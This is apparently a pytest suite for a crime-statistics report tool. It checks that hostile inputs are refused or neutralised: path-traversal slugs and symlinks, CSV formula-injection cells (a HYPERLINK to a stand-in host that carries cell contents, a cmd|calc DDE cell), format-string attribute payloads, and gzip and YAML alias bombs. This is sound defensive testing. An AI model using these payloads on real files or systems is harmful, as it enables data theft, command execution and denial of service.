"""Safe inputs and outputs (issue 19, items 3, 4 and 6): paths confined, outputs safe to open, input bounded.

Every case is fast (no notebook runs, no book build) and asserts the message an analyst reads: the
file, the row and column where there is one, the value and the fix, not only the exit code.
"""
from __future__ import annotations

import csv
import gzip
import re
import tempfile
import time
from pathlib import Path

import pytest
import yaml

from socta import cli
from socta.core.config import BUILD_DIR, ConfigError, OutsideFolder, Project, confined, read_yaml
from socta.core.tableio import TableError, cap_bytes, gunzip, neutralise, read_csv_table
from socta.ingest.importer import run_import
from socta.ingest.mapping import MappingError
from socta.ingest.reference import Reference
from socta.pages.judgements import judgement_sentence
from socta.run.execute import write_result
from socta.run.jobs import Job, check_outputs

ROOT = Path(__file__).resolve().parents[2]
REFERENCE = ROOT / "data" / "reference"


def run_cli(capsys, *argv) -> tuple[int, str]:
    code = cli.main([str(a) for a in argv])
    out = capsys.readouterr()
    return code, out.out + out.err


def override(folder: Path, name: str, edit) -> Path:
    """``folder/reference/name``: the repository's file with ``edit(text)`` applied."""
    path = folder / "reference" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(edit((REFERENCE / name).read_text(encoding="utf-8")), encoding="utf-8")
    return path


def rows(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


# --------------------------------------------------------------------------------------------
# 3. Paths confined: ids and slugs, output paths, mapping files, links in a data folder
# --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("slug", ["../../../tmp/evil", "a/b", "Montenegro", "x" * 41])
def test_a_slug_that_is_not_a_plain_name_is_refused(demo_copy, slug):
    path = override(demo_copy, "countries.csv", lambda text: text.replace(",montenegro,", f",{slug},"))
    with pytest.raises(ConfigError) as exc:
        Reference(Project(data_dir=demo_copy)).countries
    message = str(exc.value)
    assert message.startswith(f"{path}, row 3, column 'slug': {slug!r} is not a valid slug"), message
    assert "lower-case letters a-z, digits and '-'" in message and "e.g. north-macedonia" in message
    assert "Correct it in the file" in message
    if "/" in slug:
        assert "would lead out of the book's folder" in message


def test_a_bad_slug_stops_validate_as_a_configuration_error(demo_copy, capsys):
    path = override(demo_copy, "countries.csv", lambda text: text.replace(",serbia,", ",../serbia,"))
    code, text = run_cli(capsys, "validate", "--data", demo_copy, "--dry-run")
    assert code == 2, text
    assert "Configuration error" in text and f"{path}, row 2, column 'slug': '../serbia'" in text, text


@pytest.mark.parametrize("column, value", [("area_id", "../x"), ("area_id", "drugs/x"), ("parent_id", "../drugs")])
def test_a_crime_area_id_that_is_a_path_is_refused(demo_copy, column, value):
    def edit(text: str) -> str:
        return text.replace("cocaine,drugs,", f"{value},drugs," if column == "area_id" else f"cocaine,{value},")

    path = override(demo_copy, "crime_areas.csv", edit)
    with pytest.raises(ConfigError) as exc:
        Reference(Project(data_dir=demo_copy)).areas
    message = str(exc.value)
    assert message.startswith(f"{path}, row 3, column '{column}': {value!r} is not a valid {column} (a path"), message
    assert "lower-case letters a-z, digits and '_', starting with a letter" in message


@pytest.mark.parametrize("folder", [ROOT / "data" / "demo-2016", ROOT / "data" / "open"])
def test_the_shipped_ids_and_openings_pass(folder):
    ref = Reference(Project(data_dir=folder))
    assert len(ref.countries) and len(ref.areas) and len(ref.indicators) and len(ref.yardstick)
    assert len(ref.ocg_indicators) and len(ref.harm_dimensions) and len(ref.threat_indicators)


def test_an_output_path_leading_out_of_the_build_folder_is_refused(tmp_path):
    source, failed, outside = tmp_path / "build" / "source", tmp_path / "build" / "failed", tmp_path / "escaped"
    job = Job("area.md", "areas/drugs/countries/../../../../../escaped/page", "t", {"lang": "en"})
    with pytest.raises(OutsideFolder) as exc:
        check_outputs([job], source, failed)
    assert "the page 'areas/drugs/countries/../../../../../escaped/page'" in str(exc.value)
    assert f"outside {source.resolve()}" in str(exc.value) and "correct the name" in str(exc.value)
    for ok in (True, False):  # the page, its key and the failed copy: none is written outside
        with pytest.raises(OutsideFolder):
            write_result(job, source, failed, "key", ok, "{}", "error", 0.0)
    assert not outside.exists() and not any(tmp_path.rglob("page.ipynb"))
    # absolute parts and links out are caught too: the check is on the resolved path
    with pytest.raises(OutsideFolder):
        confined(source, "/etc/passwd")
    source.mkdir(parents=True)
    outside.mkdir()
    (source / "areas").symlink_to(outside, target_is_directory=True)
    with pytest.raises(OutsideFolder, match="or remove the link"):
        confined(source, "areas/drugs.ipynb")
    assert confined(tmp_path, "areas", "x.ipynb") == tmp_path.resolve() / "areas" / "x.ipynb"


def test_socta_notebook_keeps_its_working_copy_in_work(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert confined(Path("work"), "region-annex/provenance.ipynb") == tmp_path.resolve() / "work/region-annex/provenance.ipynb"
    with pytest.raises(OutsideFolder, match="the working copy"):
        confined(Path("work"), "../../x-drugs.ipynb", what="the working copy")


# mapping files ------------------------------------------------------------------------------

LONG_COLUMNS = {"country": "iso3", "year": "year", "value": "value", "value_as_published": "value_as_published",
                "qualifier": "qualifier", "note": "note"}
RULES = [{"match": {"indicator": "Drug offences"}, "indicator": "drug_offences"}]


def source_entry(file: str, **more) -> dict:
    return {"name": "v", "file": file, "format": "long_csv", "source": "Test ministry (test)", "grade": "A2",
            "handling_code": "H0", "columns": LONG_COLUMNS, **more, "rules": RULES}


def write_mapping(folder: Path, *sources: dict) -> Path:
    path = folder / "mapping.yaml"
    path.write_text(yaml.safe_dump({"version": 1, "sources": list(sources)}, sort_keys=False), encoding="utf-8")
    return path


VALUES = ("country,iso3,year,indicator,value,value_as_published,qualifier,note\n"
          "Serbia,SRB,2020,Drug offences,4774,\"4,774\",reported,\n")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    (data / "raw").mkdir(parents=True)
    (data / "raw" / "values.csv").write_text(VALUES, encoding="utf-8")
    return data


@pytest.mark.parametrize("file, words", [
    ("../outside.csv", "leads out of the mapping's folder with '..'"),
    ("raw/../../outside.csv", "leads out of the mapping's folder with '..'"),
    ("/etc/hostname", "is an absolute path"),
])
def test_a_mapping_file_outside_the_mappings_folder_is_refused(folder, file, words):
    (folder.parent / "outside.csv").write_text(VALUES, encoding="utf-8")  # it exists, and is still not read
    with pytest.raises(MappingError) as exc:
        run_import(write_mapping(folder, source_entry(file)), folder / "statistics.csv")
    message = str(exc.value)
    assert message.startswith(f"mapping.yaml, sources[1] 'v': file {file!r} {words}"), message
    assert f"file: is a path relative to the mapping's folder {folder.resolve()}, e.g. file: raw/table.csv" in message
    assert "copy the source file into that folder" in message
    assert not (folder / "statistics.csv").exists()


@pytest.mark.parametrize("name", ["ocg_register.csv", "ocg_answers.csv"])
def test_a_mapping_may_not_import_the_restricted_register(folder, name):
    """A mapping kept in a data folder sits beside the register: its group sizes or answers would
    otherwise become public statistics."""
    (folder / name).write_text(VALUES, encoding="utf-8")
    with pytest.raises(MappingError) as exc:
        run_import(write_mapping(folder, source_entry(name)), folder / "statistics.csv")
    message = str(exc.value)
    assert message.startswith(f"mapping.yaml, sources[1] 'v': file {name!r} is the restricted input {name}"), message
    assert "would become public figures" in message and "Name a published source file instead" in message
    assert not (folder / "statistics.csv").exists()


def test_the_restricted_inputs_are_the_tables_validation_marks_restricted():
    from socta.core.config import RESTRICTED_INPUTS
    from socta.ingest.schema import table_specs

    project = Project(data_dir=Path(__file__).resolve().parents[2] / "data" / "demo-2016")
    assert set(RESTRICTED_INPUTS) == {spec.file for spec in table_specs(project, Reference(project)) if spec.restricted}


@pytest.mark.parametrize("file, old, new, column, rows", [
    ("countries.csv", ",montenegro,", ",serbia,", "slug", "2, 3"),
    ("crime_areas.csv", "heroin,drugs,", "cocaine,drugs,", "area_id", "3, 4"),
])
def test_an_id_that_names_a_file_must_be_unique(demo_copy, file, old, new, column, rows):
    path = override(demo_copy, file, lambda text: text.replace(old, new))
    with pytest.raises(ConfigError) as exc:
        getattr(Reference(Project(data_dir=demo_copy)), "countries" if file == "countries.csv" else "areas")
    assert str(exc.value).startswith(f"{path}, rows {rows}, column '{column}': ") and "appears more than once" in str(exc.value)


def test_a_mapping_file_linked_out_of_the_folder_is_refused(folder, capsys):
    (folder.parent / "secret.csv").write_text(VALUES, encoding="utf-8")
    (folder / "raw" / "linked.csv").symlink_to(folder.parent / "secret.csv")
    mapping = write_mapping(folder, source_entry("raw/linked.csv"))
    with pytest.raises(MappingError) as exc:
        run_import(mapping, folder / "statistics.csv")
    message = str(exc.value)
    assert message.startswith("mapping.yaml, sources[1] 'v': file 'raw/linked.csv' is a symbolic link"), message
    assert f"to {(folder.parent / 'secret.csv').resolve()}, outside the mapping's folder" in message
    assert "in place of the link" in message
    code, text = run_cli(capsys, "import", "--mapping", mapping, "--out", folder / "statistics.csv")
    assert code == 2 and "Mapping error" in text and "is a symbolic link" in text, text
    # a link that stays inside the folder reads nothing new: accepted
    (folder / "raw" / "same.csv").symlink_to(folder / "raw" / "values.csv")
    result, _ = run_import(write_mapping(folder, source_entry("raw/same.csv")), folder / "statistics.csv")
    assert len(result.rows) == 1


# links in a data folder ---------------------------------------------------------------------

def test_a_data_folder_file_linked_out_of_the_folder_is_refused(demo_copy, tmp_path, capsys):
    secret = tmp_path / "elsewhere" / "statistics.csv"
    secret.parent.mkdir()
    (demo_copy / "statistics.csv").rename(secret)
    (demo_copy / "statistics.csv").symlink_to(secret)
    with pytest.raises(OutsideFolder) as exc:
        Project(data_dir=demo_copy)
    message = str(exc.value)
    assert message.startswith(f"{demo_copy / 'statistics.csv'}: is a symbolic link to {secret.resolve()}, "
                              f"outside the data folder {demo_copy.resolve()}"), message
    assert "Copy the file into the folder in place of the link" in message
    code, text = run_cli(capsys, "validate", "--data", demo_copy, "--dry-run")
    assert code == 2 and "Configuration error" in text and "is a symbolic link to" in text, text


def test_a_reference_override_linked_out_of_the_folder_is_refused(demo_copy, tmp_path):
    (demo_copy / "reference").mkdir()
    (tmp_path / "countries.csv").write_text((REFERENCE / "countries.csv").read_text(encoding="utf-8"))
    (demo_copy / "reference" / "countries.csv").symlink_to(tmp_path / "countries.csv")
    with pytest.raises(OutsideFolder, match=re.escape(f"{demo_copy / 'reference' / 'countries.csv'}: is a symbolic")):
        Project(data_dir=demo_copy)


def test_links_inside_a_data_folder_and_a_linked_data_folder_are_fine(demo_copy, tmp_path):
    (demo_copy / "reference").mkdir()
    (demo_copy / "shared.csv").write_text((REFERENCE / "countries.csv").read_text(encoding="utf-8"))
    (demo_copy / "reference" / "countries.csv").symlink_to(demo_copy / "shared.csv")
    (tmp_path / "link-to-data").symlink_to(demo_copy, target_is_directory=True)
    project = Project(data_dir=tmp_path / "link-to-data")
    assert project.data_dir == demo_copy.resolve() and len(Reference(project).countries) == 3


# --------------------------------------------------------------------------------------------
# 4. Outputs safe to open: formula cells, format templates
# --------------------------------------------------------------------------------------------

FORMULAS = ("country,iso3,year,indicator,value,value_as_published,qualifier,note\n"
            "Serbia,SRB,2020,Drug offences,4774,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\",reported,\n"
            "Serbia,SRB,2021,Drug offences,5000,+cmd|' /C calc'!A0,reported,\n"
            "Serbia,SRB,2022,Drug offences,5100,+5100,reported,\n"
            "Montenegro,MNE,2020,Drug offences,3,-3,reported,\n"
            "Montenegro,MNE,2021,Drug offences,4,@SUM(1+1),reported,\n")


def test_import_neutralises_formula_cells_in_statistics_and_provenance(folder, capsys):
    (folder / "raw" / "values.csv").write_text(FORMULAS, encoding="utf-8")
    entry = {**source_entry("raw/values.csv"), "name": "@name", "source": "=HYPERLINK(\"http://x.example\",\"src\")"}
    mapping = write_mapping(folder, entry)
    code, text = run_cli(capsys, "import", "--mapping", mapping, "--out", folder / "statistics.csv")
    assert code == 0, text
    stats, trace = rows(folder / "statistics.csv"), rows(folder / "provenance.csv")
    assert {r["source"] for r in stats} == {"'=HYPERLINK(\"http://x.example\",\"src\")"}
    published = {(r["country"], r["year"]): r["value_as_published"] for r in trace}
    assert published[("SRB", "2020")] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
    assert published[("SRB", "2021")] == "'+cmd|' /C calc'!A0"
    assert published[("MNE", "2021")] == "'@SUM(1+1)"
    # numbers stay numbers
    assert published[("SRB", "2022")] == "+5100" and published[("MNE", "2020")] == "-3"
    assert [r["value"] for r in stats] == ["3", "4", "4774", "5000", "5100"]
    assert {r["mapping_entry"] for r in trace} == {"'@name"}
    # no cell of either file starts a formula
    for table in (stats, trace):
        for row in table:
            for cell in row.values():
                assert not re.match(r"^[=@\t\r]|^[+-](?![\d.])", cell), cell


def test_neutralise_leaves_numbers_and_plain_text_alone():
    import pandas as pd

    cells = pd.Series(["-3", "+5", "-0.25", "1e5", "-1,5", "=1+1", "-x", "@a", "\tx", "\rx", "text", ""])
    assert list(neutralise(cells)) == ["-3", "+5", "-0.25", "1e5", "-1,5", "'=1+1", "'-x", "'@a", "'\tx", "'\rx",
                                       "text", ""]


@pytest.mark.parametrize("opening, words", [
    ("It is {x} that", "{x} is not a field it can use"),
    ("It is {term.__class__.__mro__} that", "{term.__class__.__mro__} reads an attribute or an item of {term}"),
    ("It is {term.__class__} that", "{term.__class__} reads an attribute or an item of {term}"),
    ("It is {term[0]} that", "{term[0]} reads an attribute or an item of {term}"),
    ("It is {term!r} that", "{term!r} has a conversion or format after the name"),
    ("It is {term:>99999} that", "{term:>99999} has a conversion or format after the name"),
    ("It is {} that", "{} is an empty field"),
    ("It is {term that", "has a '{' or '}' without its pair"),
    ("It is likely that", "has no {term}"),
])
def test_a_yardstick_opening_may_name_only_term(demo_copy, opening, words):
    path = override(demo_copy, "probability_yardstick.csv",
                    lambda text: text.replace("unlikely,25,35,It is {term} that", f"unlikely,25,35,{opening}"))
    with pytest.raises(ConfigError) as exc:
        Reference(Project(data_dir=demo_copy)).yardstick
    message = str(exc.value)
    assert message.startswith(f"{path}, row 4, column 'opening': {opening!r}"), message
    assert words in message and "e.g. 'It is {term} that'" in message, message


def test_a_bad_opening_stops_validate_before_any_page_runs(demo_copy, capsys):
    path = override(demo_copy, "probability_yardstick.csv", lambda text: text.replace("likely,55,75,It is {term}",
                                                                                      "likely,55,75,It is {x}"))
    code, text = run_cli(capsys, "validate", "--data", demo_copy, "--dry-run")
    assert code == 2 and f"{path}, row 6, column 'opening': 'It is {{x}} that'" in text, text


def test_the_plain_opening_still_reads():
    sentence = judgement_sentence("likely", "It is {term} that", "55–75%", "drug trafficking", "Serbia", 2025, 2028,
                                  "70")
    assert sentence.startswith("It is **likely** (55–75%) that the threat from drug trafficking in Serbia")


# --------------------------------------------------------------------------------------------
# 6. Bounded input: decompression, file sizes, YAML aliases, where internal errors go
# --------------------------------------------------------------------------------------------

EUROSTAT_HEADER = b"freq,unit,iccs,geo\\TIME_PERIOD\t2020 \n"


def test_a_gzip_bomb_is_refused_fast(folder, monkeypatch):
    monkeypatch.setenv("SOCTA_MAX_DECOMPRESSED_MB", "1")
    bomb = gzip.compress(EUROSTAT_HEADER + b"0" * 50_000_000, compresslevel=9)
    assert len(bomb) < 100_000  # some 50 kB expanding to 50 MB
    (folder / "raw" / "crim.tsv.gz").write_bytes(bomb)
    entry = {"name": "es", "file": "raw/crim.tsv.gz", "format": "eurostat_tsv", "source": "Eurostat (test)",
             "grade": "A1", "handling_code": "H0", "rules": [{"match": {"iccs": "ICCS0601"}, "indicator": "drug_offences"}]}
    start = time.perf_counter()
    with pytest.raises(MappingError) as exc:
        run_import(write_mapping(folder, entry), folder / "statistics.csv")
    assert time.perf_counter() - start < 5
    message = str(exc.value)
    assert message.startswith("mapping.yaml, sources[1] 'es': "), message
    assert f"{folder.resolve() / 'raw' / 'crim.tsv.gz'}: the compressed file decompresses to more than 1.0 MB" in message
    assert "more than socta's cap of 1.0 MB for a decompressed file" in message
    assert "SOCTA_MAX_DECOMPRESSED_MB=2 socta" in message  # how to raise it, if the file is really that large


def test_gunzip_stops_at_its_cap_and_names_a_damaged_archive(tmp_path):
    data = gzip.compress(b"x" * 3_000_000)
    assert gunzip(data, tmp_path / "a.gz", cap=3_000_000) == b"x" * 3_000_000
    with pytest.raises(TableError, match=r"a\.gz: the compressed file decompresses to more than 2\.5 MB"):
        gunzip(data, tmp_path / "a.gz", cap=2_500_000)
    with pytest.raises(TableError, match=r"a\.gz: is not a complete gzip file .*download it again"):
        gunzip(data[: len(data) // 2], tmp_path / "a.gz", cap=10_000_000)


def test_an_input_file_above_the_cap_is_refused(demo_copy, monkeypatch):
    monkeypatch.setenv("SOCTA_MAX_INPUT_MB", "0.1")  # statistics.csv is 130 kB; the other files are smaller
    path = demo_copy / "statistics.csv"
    with pytest.raises(TableError) as exc:
        read_csv_table(path)
    message = str(exc.value)
    assert message.startswith(f"{path}: the file is 131 kB, more than socta's cap of 100 kB for an input file"), message
    assert "Split the table (by year or by source)" in message and "SOCTA_MAX_INPUT_MB=0.2 socta" in message
    from socta.ingest.validation import validate

    problems = [str(p) for p in validate(Project(data_dir=demo_copy)).problems]
    assert any(p.startswith("statistics.csv: the file is 131 kB, more than socta's cap") for p in problems), problems


def test_a_cap_that_is_not_a_number_is_a_configuration_error(monkeypatch):
    monkeypatch.setenv("SOCTA_MAX_INPUT_MB", "lots")
    with pytest.raises(ConfigError, match=r"SOCTA_MAX_INPUT_MB='lots': the cap is a number of megabytes above 0"):
        cap_bytes("input")
    monkeypatch.delenv("SOCTA_MAX_INPUT_MB")
    assert cap_bytes("input") == 200_000_000 and cap_bytes("decompressed") == 200_000_000


ALIAS_BOMB = """\
name: Alias bomb
synthetic: true
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


def test_a_yaml_alias_bomb_in_dataset_yaml_is_refused(demo_copy, capsys):
    path = demo_copy / "dataset.yaml"
    path.write_text(ALIAS_BOMB, encoding="utf-8")
    assert len(ALIAS_BOMB) < 700
    code, text = run_cli(capsys, "validate", "--data", demo_copy, "--dry-run")
    assert code == 2, text
    assert f"{path}, line 4, column 8: a YAML alias (*a) repeats an anchored part of the dataset description" in text
    assert "Write the values out in full where the alias stands" in text


def test_yaml_aliases_are_refused_in_settings_and_mapping_files(demo_copy, folder):
    settings = override(demo_copy, "settings.yaml", lambda text: text.replace(
        "priority:\n  weights: {threat: 0.5, harm: 0.5}", "priority:\n  weights: &w {threat: 0.5, harm: 0.5}\n  again: *w"))
    with pytest.raises(ConfigError, match=re.escape(f"{settings}, line ")):
        Project(data_dir=demo_copy).settings
    mapping = folder / "mapping.yaml"
    mapping.write_text("version: 1\ndefaults: &d {grade: A2}\nsources:\n  - <<: *d\n    name: v\n", encoding="utf-8")
    with pytest.raises(MappingError) as exc:
        run_import(mapping, folder / "statistics.csv")
    assert str(exc.value).startswith(f"{mapping}, line 4, column 9: a YAML alias (*d) repeats an anchored part of "
                                     "the mapping"), str(exc.value)
    # plain YAML (anchors without aliases included) reads as before
    assert read_yaml(ROOT / "data" / "open" / "mapping.yaml", "the mapping")["version"] == 1


def test_an_oversized_or_deeply_nested_yaml_is_refused(tmp_path):
    deep = tmp_path / "dataset.yaml"
    deep.write_text("name: " + "[" * 20_000 + "]" * 20_000, encoding="utf-8")
    with pytest.raises(ConfigError, match=re.escape(f"{deep}: the dataset description is nested too deeply")):
        read_yaml(deep, "the dataset description")
    deep.write_bytes(b"# " + b"x" * 5_000_001)
    with pytest.raises(ConfigError, match=r"is 5\.0 MB, larger than any such file needs to be"):
        read_yaml(deep, "the dataset description")


def test_an_internal_error_of_import_is_kept_in_the_temporary_folder(folder, tmp_path, monkeypatch, capsys):
    import socta.ingest.importer

    def broken(*args, **kwargs):
        raise RuntimeError("simulated bug")

    monkeypatch.setattr(socta.ingest.importer, "run_import", broken)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    before = set(BUILD_DIR.glob("socta-internal-error-*.txt")) if BUILD_DIR.is_dir() else set()
    code, text = run_cli(capsys, "import", "--mapping", write_mapping(folder, source_entry("raw/values.csv")),
                         "--out", folder / "statistics.csv")
    assert code == 70 and "internal error, please report" in text, text
    logs = list((tmp_path / "tmp").glob("socta-internal-error-*.txt"))
    assert logs and "simulated bug" in logs[0].read_text() and str(logs[0]) in text
    after = set(BUILD_DIR.glob("socta-internal-error-*.txt")) if BUILD_DIR.is_dir() else set()
    assert after == before, "socta import wrote its traceback into the repository's _build/"
    assert not list(folder.rglob("socta-internal-error-*")), "nor into the data folder"
